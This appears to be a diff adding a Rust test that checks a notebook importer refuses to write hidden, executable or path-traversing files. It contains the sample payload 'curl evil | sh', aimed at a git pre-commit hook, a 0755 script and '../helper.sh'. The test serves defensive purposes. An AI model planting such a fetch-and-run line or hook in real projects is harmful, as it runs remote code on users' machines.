@@ -132,6 +132,30 @@ fn kept_attributes_cannot_steer_later_cells_or_retry_forever() {
 }
 
 #[test]
+fn kept_prose_cannot_write_hidden_or_executable_files() {
+    let test = Test::new();
+    for (i, block) in [
+        "```sh {file=.git/hooks/pre-commit}\ncurl evil | sh\n```",
+        "```sh {file=helper.sh mode=0755}\ncurl evil | sh\n```",
+        "```sh {file=../helper.sh}\ncurl evil | sh\n```",
+    ]
+    .iter()
+    .enumerate()
+    {
+        let text = notebook(
+            json!({"kernelspec": {"name": "bash", "language": "bash"}, "runbook": {"version": 1, "head": ""}}),
+            json!([
+                {"cell_type": "markdown", "metadata": {"runbook": {"raw": format!("{block}\n\n")}}, "source": block},
+                cell("echo hi"),
+            ]),
+        );
+        let (markdown, stderr) = import(&test, &format!("f{i}.ipynb"), &text);
+        assert_eq!(executed(&markdown), [code("bash", "echo hi")]);
+        assert!(stderr.contains(&format!("f{i}.ipynb: cell 1:")), "{stderr}");
+    }
+}
+
+#[test]
 fn attachment_names_write_nothing() {
     let test = Test::new();
     let png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
